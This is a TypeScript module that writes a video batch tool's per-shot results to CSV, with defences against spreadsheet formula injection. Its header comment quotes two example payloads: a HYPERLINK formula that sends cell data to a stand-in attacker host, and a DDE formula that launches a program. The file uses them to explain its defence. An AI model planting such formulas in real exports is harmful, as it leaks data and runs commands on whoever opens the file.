/**
 * Exports the per-shot results of a project as CSV (for `ltx-batch report --csv`), safe to open in
 * Excel, LibreOffice Calc or Google Sheets.
 *
 * Columns, in this order, with a header row:
 *
 * | column     | type   | meaning                                                           |
 * |------------|--------|-------------------------------------------------------------------|
 * | `shot`     | text   | the shot id from the storyboard                                   |
 * | `row`      | number | the storyboard row the shot came from (header = 1)                |
 * | `prompt`   | text   | the prompt                                                        |
 * | `provider` | text   | the provider id                                                   |
 * | `state`    | text   | the job state (queued, running, succeeded, failed, canceled, ...) |
 * | `take`     | number | the take number, empty when not queued                            |
 * | `clip`     | text   | the clip's path (relative to the output folder), empty if none    |
 * | `estimate` | number | the estimated cost in USD                                         |
 * | `actual`   | number | the cost actually charged in USD, empty until known               |
 * | `error`    | text   | the last error message, empty if none                             |
 *
 * CSV injection ("formula injection", OWASP): a cell whose text starts with `=`, `+`, `-`, `@`, a
 * tab or a carriage return is run as a formula by spreadsheet programs, so a prompt such as
 * `=HYPERLINK("http://evil.example?"&A1,"click")` or `@SUM(1+1)*cmd|' /C calc'!A0` could leak data
 * or start programs when a creator opens the report. The rule applied here:
 *
 * - Text columns (shot, prompt, provider, state, clip, error) are neutralised: when the first
 *   character that is not a space is `=`, `+`, `-`, `@` (or their full-width forms ＝ ＋ － ＠),
 *   or the cell starts with a tab or carriage return, a single quote `'` is put in front. The
 *   spreadsheet then shows the text as text (the quote is visible in some programs; that is the
 *   price of safety). This applies to every text cell, so a shot id "-1" is written as `'-1`.
 * - Number columns (row, take, estimate, actual) are written as plain numbers and never prefixed:
 *   `-1` or `-0.25` stay numbers (a number cannot carry a formula); amounts are rounded to 6
 *   decimals. NaN and Infinity are written as empty cells; text smuggled into a number column
 *   past the type is neutralised like any text, never written raw.
 * - Cells are quoted by csv-stringify whenever they contain a comma, quote or line break, so no
 *   cell can break out into the next one.
 */
import { stringify } from 'csv-stringify/sync';

/** One shot's result, as the report lists it. */
export interface ResultRow {
  /** Shot id. */
  shot: string;
  /** Storyboard row (header = 1). */
  row: number;
  prompt: string;
  /** Provider id. */
  provider: string;
  /** Job state (queued, submitting, running, downloading, succeeded, failed, canceled) or e.g. "not queued". */
  state: string;
  /** Take number; null when the shot was never queued. */
  take: number | null;
  /** Clip path relative to the output folder; null when there is no clip yet. */
  clip: string | null;
  /** Estimated cost in USD; null when unknown. */
  estimate: number | null;
  /** Actual cost in USD; null until known. */
  actual: number | null;
  /** Last error message; null when none. */
  error: string | null;
}

/** The columns, in order. */
export const RESULT_COLUMNS = ['shot', 'row', 'prompt', 'provider', 'state', 'take', 'clip', 'estimate', 'actual', 'error'] as const;

const TEXT_COLUMNS = new Set<string>(['shot', 'prompt', 'provider', 'state', 'clip', 'error']);

/** Characters that make a spreadsheet treat a cell as a formula (after leading spaces). */
const FORMULA_START = /^[ ]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;

/** Prefixes a single quote when the text would be read as a formula; other text is unchanged. */
export function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

function numberCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return Number.isFinite(v) ? String(Number(v.toFixed(6))) : '';
  return neutraliseCell(String(v));
}

/**
 * Writes result rows as CSV text (header row first, CRLF line ends as RFC 4180 and Excel expect),
 * applying the formula-injection rule described above. `bom: true` starts the text with a UTF-8
 * byte-order mark, which Excel needs to read accents right when the CSV is saved to a file.
 */
export function exportResultsCsv(rows: ResultRow[], options: { bom?: boolean } = {}): string {
  const records = rows.map((r) =>
    RESULT_COLUMNS.map((col) => {
      const v = (r as unknown as Record<string, unknown>)[col];
      if (!TEXT_COLUMNS.has(col)) return numberCell(v);
      return v === null || v === undefined ? '' : neutraliseCell(String(v));
    }),
  );
  const csv = stringify([[...RESULT_COLUMNS], ...records], { record_delimiter: '\r\n', quoted_string: false });
  return options.bom ? `\uFEFF${csv}` : csv;
}
